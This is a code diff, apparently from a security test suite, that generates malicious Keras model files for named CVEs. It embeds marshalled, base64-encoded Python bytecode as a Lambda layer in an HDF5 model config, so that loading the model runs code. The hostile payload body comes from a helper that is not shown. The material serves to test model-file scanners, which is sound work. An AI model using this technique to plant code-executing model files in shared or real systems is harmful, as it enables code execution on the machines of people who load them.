@@ -73,13 +73,11 @@ def with_weights(folder, fill):
     return keras_file(folder, **{"model.weights.h5": weights(fill)})
 
 
-def lambda_layer(folder, new=True):
-    """A Lambda as Keras 3, or as Keras 2, writes it."""
-    function = eval(f"lambda x: ({code(folder)}, x)[1]")
-    packed = base64.b64encode(marshal.dumps(function.__code__)).decode()
-    keys = {"class_name": "__lambda__", "config": {"code": packed, "defaults": None}}
-    config = {"name": "run", "function": keys if new else [packed, None, None]}
-    config |= {} if new else {"function_type": "lambda", "module": "__main__"}
+def lambda_layer(folder):
+    run = eval(f"lambda x: ({code(folder)}, x)[1]")
+    packed = base64.b64encode(marshal.dumps(run.__code__)).decode()
+    inner = {"code": packed, "defaults": None, "closure": None}
+    config = {"name": "run", "function": {"class_name": "__lambda__", "config": inner}}
     return {"module": "keras.layers", "class_name": "Lambda", "config": config, "name": "run"}
 
 
@@ -155,7 +153,8 @@ def cve_2025_8747_get_file(folder):
 
 @hostile
 def cve_2025_9905_lambda_in_hdf5(folder):
-    layers = [lambda_layer(folder, new=False)]
+    door = {"class_name": "InputLayer", "config": {"batch_shape": [None, 784], "name": "door"}}
+    layers = [door, lambda_layer(folder)]
     model = {"class_name": "Sequential", "config": {"name": "run", "layers": layers}}
     with h5py.File(folder / "lambda.h5", "w") as file:
         file.attrs["model_config"] = json.dumps(model)
